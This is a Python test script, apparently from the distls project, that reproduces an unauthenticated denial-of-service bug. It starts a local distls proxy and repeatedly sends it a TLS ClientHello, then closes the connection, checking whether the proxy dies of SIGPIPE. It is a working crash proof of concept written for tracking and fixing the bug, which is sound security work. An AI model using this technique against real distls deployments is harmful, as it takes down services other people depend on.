#!/usr/bin/env python3
"""Open finding (see README.md): a TLS peer that sends a ClientHello and closes its socket
kills distls with SIGPIPE. No certificate is needed, so anyone who reaches the TLS port
can stop distls.

    python3 sigpipe_client_hello_then_close.py build/distls     # prints "distls exited -13"

Exits 1 while the bug is there, 0 once distls survives."""
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
import time
from pathlib import Path

distls = str(Path(sys.argv[1] if len(sys.argv) > 1 else "build/distls").resolve())
with tempfile.TemporaryDirectory() as work:
    w = Path(work)
    subprocess.run([distls, "ca", "init", "--out", w / "ca"], check=True, capture_output=True)
    subprocess.run([distls, "ca", "issue", "--ca-dir", w / "ca", "--node", "app@127.0.0.5", "--out", w / "pod"],
                   check=True, capture_output=True)
    with socket.socket() as s:
        s.bind(("127.0.0.5", 0))
        port = s.getsockname()[1]
    proxy = subprocess.Popen([distls, "proxy", "--node", "app@127.0.0.5", "--listen", f"127.0.0.5:{port}",
                              "--epmd", "127.0.0.1:0", "--admin", "off", "--cert", w / "pod/tls.crt",
                              "--key", w / "pod/tls.key", "--trust-bundle", w / "pod/ca.crt"],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    for _ in range(50):
        try:
            socket.create_connection(("127.0.0.5", port), timeout=1).close()
            break
        except OSError:
            time.sleep(0.1)
    # A ClientHello, made by Python's TLS stack without a socket.
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    for _ in range(20):
        out = ssl.MemoryBIO()
        try:
            ctx.wrap_bio(ssl.MemoryBIO(), out).do_handshake()
        except ssl.SSLWantReadError:
            pass
        with socket.create_connection(("127.0.0.5", port)) as s:
            s.sendall(out.read())
        time.sleep(0.05)
        if proxy.poll() is not None:
            break
    time.sleep(0.5)
    if proxy.poll() is None:
        print("distls survived")
        proxy.send_signal(signal.SIGTERM)
        proxy.wait(15)
        sys.exit(0)
    print(f"distls exited {proxy.returncode}" + (" (SIGPIPE)" if proxy.returncode == -signal.SIGPIPE else ""))
    sys.exit(1)
